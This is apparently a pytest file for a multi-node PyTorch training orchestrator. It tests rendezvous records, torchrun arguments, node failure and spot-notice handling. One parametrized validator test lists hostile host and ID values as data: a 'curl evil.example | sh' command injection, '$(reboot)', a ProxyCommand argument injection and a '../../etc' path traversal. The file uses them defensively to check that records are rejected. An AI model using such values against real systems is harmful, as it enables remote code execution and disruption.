"""The on-instance side of multi-node runs: two local instances, one agent on each, a real
``torchrun`` with c10d rendezvous and gloo, a real ``Trainer.fit(num_nodes=2)`` with CheckpointSync
and MetricsReporter; a node killed mid-run; and the store content the nodes meet through.

The tests do by hand what the launcher does for ``--nodes 2``: create the instances together,
write the signed job spec and a queued state, start one agent per instance with its node index.
"""

from __future__ import annotations

import json
import os
import re
import signal
import time
from pathlib import Path

import pytest

from tests.helpers import wait_until
from tests.helpers.leftovers import end_local_instances_then_assert_nothing_running, live_agent_pids
from tests.helpers.provider_contract import FAST
from trainctl_lightning.agent.nodes import (
    NODE_START_WAIT_S,
    PeerFailure,
    PeerWatch,
    Rendezvous,
    peers_end_wait_s,
    read_rendezvous,
    resolve_node,
    run_outcome,
    stale_after_s,
    torchrun_argv,
    torchrun_root_cause,
    write_rendezvous,
)
from trainctl_lightning.errors import AgentFailure, AuthenticationError, IntegrityError
from trainctl_lightning.jobs.spec import EnvMode, JobPhase, JobSpec, JobState, new_run_id
from trainctl_lightning.jobs.store import JobStore
from trainctl_lightning.metrics.read import read_metrics
from trainctl_lightning.providers.api import AgentLaunch, InstanceSpec
from trainctl_lightning.providers.local import LocalProvider
from trainctl_lightning.runkey import new_key
from trainctl_lightning.store.layout import RENDEZVOUS, run_url_in
from trainctl_lightning.store.run import RunStore
from trainctl_lightning.timeutil import utc_now

SCRIPT = Path(__file__).parent / "scripts" / "multinode_train.py"
_RANK_LINE = re.compile(
    r"RANK global_rank=(\d+) world_size=(\d+) node=(\d+) local_rank=(\d+) env=(\w+) trainctl_node=(\S+) pid=(\d+)"
)


@pytest.fixture(autouse=True)
def _nothing_left():
    yield
    end_local_instances_then_assert_nothing_running()


def _launch(store: str, nodes: int, nproc: int, *args: str) -> tuple[JobStore, JobSpec]:
    """What execute_plan does for a multi-node launch, by hand: instances, spec, queued state, agents."""
    provider = LocalProvider()
    instances = provider.create_nodes(InstanceSpec(nodes=nodes))
    run_id = new_run_id("multinode")
    run_url = run_url_in(store, run_id)
    spec = JobSpec(
        run_id=run_id,
        run_url=run_url,
        created_at=utc_now(),
        script=str(SCRIPT),
        args=["--nodes", str(nodes), "--devices", str(nproc), *args],
        env_mode=EnvMode.REUSE,
        provider="local",
        instance_id=instances[0].id,
        terminate_instance_after=True,
        nodes=nodes,
        nproc_per_node=nproc,
        node_instances=[i.id for i in instances],
        **FAST,
    )
    key = new_key()
    jobs = JobStore(run_url)
    jobs.write_spec(spec, key)
    jobs.write_state(JobState(run_id=run_id, phase=JobPhase.QUEUED, updated_at=utc_now(), queued_at=spec.created_at))
    for node, instance in enumerate(instances):
        provider.start_agent(instance, AgentLaunch(run_id=run_id, run_url=run_url, run_key=key, node=node))
    return jobs, spec


def _state(jobs: JobStore, node: int = 0) -> JobState | None:
    return jobs.for_node(node).read_state()


def _ended(jobs: JobStore) -> JobState | None:
    state = _state(jobs)
    return state if state is not None and state.phase.is_terminal() else None


def _ranks(jobs: JobStore, node: int) -> list[tuple[str, ...]]:
    return _RANK_LINE.findall(jobs.for_node(node).read_logs().decode(errors="replace"))


@pytest.mark.slow
def test_two_nodes_train_as_one_job_and_the_run_succeeds(file_store: str) -> None:
    jobs, spec = _launch(file_store, 2, 1)
    final = wait_until(lambda: _ended(jobs), 180, 0.2, what="the run's end")
    assert final.phase is JobPhase.SUCCEEDED, (final.error, jobs.read_logs().decode()[-3000:])
    assert (final.node, final.failed_node, final.instance_id) == (0, None, spec.node_instances[0])
    other = _state(jobs, 1)
    assert other is not None and (other.phase, other.node, other.instance_id) == (JobPhase.SUCCEEDED, 1, spec.node_instances[1])

    # each node's own log holds its own ranks, all in one world of two under torchrun
    seen = {node: _ranks(jobs, node) for node in (0, 1)}
    assert all(len(lines) == 1 for lines in seen.values()), seen
    assert sorted(int(lines[0][0]) for lines in seen.values()) == [0, 1]
    for node, [(_, world, _, _, env, trainctl_node, _)] in seen.items():
        assert (world, env, trainctl_node) == ("2", "TorchElasticEnvironment", str(node))
    assert all("DONE global_rank=" in jobs.for_node(n).read_logs().decode() for n in (0, 1))

    # global rank 0 (whichever node it ran on) published the checkpoints and reported the metrics, once each
    checkpoints = RunStore(spec.run_url).list_checkpoints()
    assert sorted(c.global_step for c in checkpoints) == [2, 4, 6]
    steps = [r.step for r in read_metrics(spec.run_url) if "train_loss" in r.metrics]
    assert steps == sorted(set(steps)) and steps[-1] == 5, steps

    # the lead published where the nodes met, signed; both instances released themselves
    raw = jobs.objects.read(RENDEZVOUS)
    assert raw is not None and raw.startswith(b"trainctl-signed/1 rendezvous ")
    # each agent releases its instance after writing its final state, then exits
    wait_until(lambda: not live_agent_pids(), 60, 0.1, what="every agent, torchrun and worker gone")
    assert [i.id for i in LocalProvider().list()] == []


@pytest.mark.slow
def test_a_node_killed_mid_run_ends_every_node_within_the_bound(file_store: str) -> None:
    jobs, spec = _launch(file_store, 2, 1, "--max-steps", "100000", "--step-s", "0.05")
    wait_until(lambda: _ranks(jobs, 0) and _ranks(jobs, 1), 180, 0.2, what="both nodes training")
    [(_, _, _, _, _, _, victim)] = _ranks(jobs, 1)
    killed_at = time.monotonic()
    os.kill(int(victim), signal.SIGKILL)  # node 1's training process, as the OOM killer would

    bound = peers_end_wait_s(spec)
    final = wait_until(lambda: _ended(jobs), bound, 0.1, what=f"the run's end within {bound:.0f}s")
    wait_until(lambda: not live_agent_pids(), bound, 0.1, what="every agent, torchrun and worker gone")
    took = time.monotonic() - killed_at
    assert took < bound
    assert final.phase is JobPhase.FAILED and final.failed_node == 1, (final.error, final.failed_node)
    assert final.error is not None and final.error.startswith("node 1 failed") and "SIGKILL" in final.error, final.error
    node1 = _state(jobs, 1)
    assert node1 is not None and node1.phase is JobPhase.FAILED and node1.failed_node == 1
    assert [i.id for i in LocalProvider().list()] == []
    assert all(
        i.state.value == "terminated" for i in LocalProvider().list(include_terminated=True) if i.id in spec.node_instances
    )


@pytest.mark.slow
def test_a_spot_notice_reaches_the_workers_and_every_rank_saves_now(file_store: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A node's job process is torchrun, which does not handle SIGUSR1 (it would die of it): the
    agent signals that node's workers, and CheckpointSync's per-batch vote makes every rank save."""
    from trainctl_lightning.testing import LocalIMDS

    with LocalIMDS() as imds:
        for name, value in {"TRAINCTL_SPOT": "1", "TRAINCTL_IMDS_ENDPOINT": imds.endpoint, "TRAINCTL_SPOT_POLL_S": "0.2"}.items():
            monkeypatch.setenv(name, value)  # the agents inherit it: every node watches this service
        jobs, spec = _launch(file_store, 2, 1, "--max-steps", "100000", "--step-s", "0.05")
        wait_until(lambda: _ranks(jobs, 0) and _ranks(jobs, 1), 180, 0.2, what="both nodes training")
        imds.rebalance()  # a rebalance recommendation: checkpoint now, no stop
        store = RunStore(spec.run_url)
        saved = wait_until(
            lambda: [c for c in store.list_checkpoints() if c.name.startswith("preempt-step=")], 60, 0.2, what="a checkpoint now"
        )
        assert len(saved) >= 1

        def logs() -> str:
            return jobs.read_logs().decode() + jobs.for_node(1).read_logs().decode()

        # the agents' notes are shipped every log_interval_s: the checkpoint can be in the store first
        wait_until(lambda: "workers (pids" in logs() and "sent SIGUSR1" in logs(), 30, 0.2, what="the agents' SIGUSR1 notes")
        assert all(_state(jobs, k).phase is JobPhase.RUNNING for k in (0, 1))  # nothing died of the signal
        jobs.request_cancel("test over")
        final = wait_until(lambda: _ended(jobs), 120, 0.2, what="the run's end")
        assert final.phase is JobPhase.CANCELLED


# ---------------------------------------------------------------- the rendezvous record


def _record(**fields: object) -> bytes:
    good = {"format": "trainctl-rendezvous/1", "host": "10.0.0.5", "port": 29400, "rdzv_id": "run-1", "attempt": 1, "nodes": 2}
    return json.dumps({**good, **fields}).encode()


def test_a_good_record_reads_back() -> None:
    record = Rendezvous.from_json(_record(host="ip-10-0-0-5.ec2.internal"), "x")
    assert (record.endpoint, record.rdzv_id) == ("ip-10-0-0-5.ec2.internal:29400", "run-1")
    assert Rendezvous.from_json(_record(host="fe80::1"), "x").endpoint == "[fe80::1]:29400"


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        (b"not json {", "not JSON"),
        (b"[1, 2]", "JSON list"),
        (_record(format="other/9"), "format"),
        (_record(host="10.0.0.5; curl evil.example | sh"), "host"),
        (_record(host="$(reboot)"), "host"),
        (_record(host="-oProxyCommand=x"), "host"),
        (_record(host=["10.0.0.5"]), "host"),
        (_record(port="29400"), "port"),
        (_record(port=0), "port"),
        (_record(port=70000), "port"),
        (_record(port=True), "port"),
        (_record(rdzv_id="../../etc"), "rdzv_id"),
        (_record(rdzv_id="a,is_host=1"), "rdzv_id"),
        (_record(attempt=0), "attempt"),
        (_record(nodes=1), "nodes"),
        (_record(written_at="x" * 100), "written_at"),
        (b" " * 5000, "bytes"),
    ],
)
def test_a_hostile_record_is_one_line_naming_the_field(raw: bytes, field: str) -> None:
    with pytest.raises(IntegrityError) as err:
        Rendezvous.from_json(raw, "memory://s/run/control/rendezvous.json")
    message = str(err.value)
    assert "\n" not in message and field in message and "rendezvous.json is not a valid rendezvous record" in message


def test_a_signed_record_is_refused_with_another_key(memory_url: str) -> None:
    jobs = JobStore(memory_url)
    record = Rendezvous(host="127.0.0.1", port=29400, rdzv_id="run-1", attempt=1, nodes=2)
    write_rendezvous(jobs, record, "k1" * 32, "run-1")
    assert read_rendezvous(jobs, "k1" * 32, "run-1") == record
    with pytest.raises(AuthenticationError):
        read_rendezvous(jobs, "k2" * 32, "run-1")
    jobs.objects.write(RENDEZVOUS, record.to_json())  # planted unsigned by whoever can write the store
    with pytest.raises(AuthenticationError):
        read_rendezvous(jobs, "k1" * 32, "run-1")


def test_torchrun_accepts_the_command() -> None:
    from torch.distributed.run import get_args_parser

    record = Rendezvous(host="10.0.0.5", port=29400, rdzv_id="run-1", attempt=1, nodes=2)
    argv = torchrun_argv(
        "py",
        ["py", "-u", "-m", "pkg.train", "--lr", "1"],
        nodes=2,
        nproc_per_node=4,
        rendezvous=record,
        lead=False,
        local_addr="10.0.0.6",
        log_dir="/work/runs/run-1/torchelastic",
    )
    assert argv[:4] == ["py", "-u", "-m", "torch.distributed.run"]
    args = get_args_parser().parse_args(argv[4:])
    assert (args.nnodes, args.nproc_per_node, args.rdzv_backend, args.rdzv_endpoint) == ("2", "4", "c10d", "10.0.0.5:29400")
    assert (args.rdzv_id, args.local_addr, args.max_restarts, args.module) == ("run-1", "10.0.0.6", 0, True)
    assert args.rdzv_conf == f"is_host=0,join_timeout={int(NODE_START_WAIT_S)}"
    assert (args.training_script, args.training_script_args) == ("pkg.train", ["--lr", "1"])
    assert args.log_dir == "/work/runs/run-1/torchelastic"


def test_torchrun_root_cause_is_one_phrase() -> None:
    output = """torch.distributed.elastic.multiprocessing.errors.ChildFailedError:
Root Cause (first observed failure):
[0]:
  time      : 2026-12-01_13:30:19
  host      : localhost
  rank      : 1 (local_rank: 0)
  exitcode  : -9 (pid: 2527)  (SIGKILL)
  error_file: <N/A>
  traceback : Signal 9 (SIGKILL) received by PID 2527
"""
    assert torchrun_root_cause(output) == "rank 1 (local_rank: 0) exit code -9 (SIGKILL)"
    assert torchrun_root_cause("Traceback: ValueError") is None


# ---------------------------------------------------------------- node index, peers, the run's end


def _spec(**fields: object) -> JobSpec:
    return JobSpec(run_id="run-1", run_url="memory://s/run-1", created_at=utc_now(), module="x", nodes=2, **fields)  # type: ignore[arg-type]


def test_the_node_index_comes_from_the_env_else_from_the_instance_id() -> None:
    spec = _spec(node_instances=["i-a", "i-b"])
    never = lambda: pytest.fail("the instance id is asked only without the env")  # noqa: E731
    assert resolve_node(spec, "1", never) == 1
    assert resolve_node(spec, None, lambda: "i-b") == 1
    assert resolve_node(spec, "", lambda: "i-a") == 0
    for env, own in (("2", None), ("-1", None), ("one", None), (None, None), (None, "i-c")):
        with pytest.raises(AgentFailure) as err:
            resolve_node(spec, env, lambda own=own: own)
        assert "\n" not in str(err.value) and "node" in str(err.value)


def test_a_silent_peer_is_lost_after_the_bound_by_this_agents_clock(memory_url: str) -> None:
    jobs = JobStore(memory_url)
    now = [0.0]
    watch = PeerWatch(jobs, 0, 3, heartbeat_interval_s=0.5, clock=lambda: now[0])
    bound = stale_after_s(0.5)
    assert bound == 15.0
    for node in (1, 2):
        jobs.for_node(node).write_state(JobState(run_id="r", phase=JobPhase.RUNNING, updated_at="2020-01-01T00:00:00Z"))
    assert watch.check() is None  # an old timestamp (clock skew) is not staleness: first sight
    for t in range(1, int(bound) + 1):
        now[0] = float(t)
        jobs.for_node(1).write_state(JobState(run_id="r", phase=JobPhase.RUNNING, updated_at=f"2020-01-01T00:00:{t:02d}Z"))
        assert watch.check() is None
    now[0] = bound + 1.0
    jobs.for_node(1).write_state(JobState(run_id="r", phase=JobPhase.RUNNING, updated_at="2020-01-01T00:01:00Z"))
    failure = watch.check()
    assert failure is not None and failure.node == 2 and "stopped reporting" in failure.reason
    jobs.for_node(1).write_state(JobState(run_id="r", phase=JobPhase.FAILED, updated_at=utc_now(), error="boom"))
    assert watch.check() == PeerFailure(1, "node 1 failed: boom")


def test_the_run_names_the_node_that_failed_first() -> None:
    def peer(phase: JobPhase, ended_at: str, failed_node: int | None, error: str = "x") -> JobState:
        return JobState(
            run_id="r", phase=phase, updated_at=ended_at, ended_at=ended_at, error=error, failed_node=failed_node, exit_code=1
        )

    t1, t2 = "2026-01-01T00:00:01.000000Z", "2026-01-01T00:00:02.000000Z"
    # the lead failed after node 1 did by itself: node 1 is named
    out = run_outcome(JobPhase.FAILED, "gloo reset", 1, t2, None, {1: peer(JobPhase.FAILED, t1, 1, "SIGKILL")}, 5)
    assert out == (JobPhase.FAILED, 1, "node 1 failed: SIGKILL", 1)
    # node 1 stopped because of the lead: the lead is named
    out = run_outcome(JobPhase.FAILED, "oom", 137, t2, None, {1: peer(JobPhase.FAILED, t1, 0, "node 0 failed: oom")}, 5)
    assert out[2:] == ("node 0 failed: oom", 0)
    # a peer that never ended within the wait
    out = run_outcome(JobPhase.SUCCEEDED, None, 0, t1, None, {1: None}, 85)
    assert out[2:] == ("node 1 did not end within 85s of node 0", 1)
    # all succeeded; a cancel ends the run cancelled whatever the others did
    assert run_outcome(JobPhase.SUCCEEDED, None, 0, t1, None, {1: peer(JobPhase.SUCCEEDED, t1, None)}, 5)[0] is JobPhase.SUCCEEDED
    assert (
        run_outcome(JobPhase.CANCELLED, "stop", 143, t1, None, {1: peer(JobPhase.CANCELLED, t1, 1)}, 5)[0] is JobPhase.CANCELLED
    )
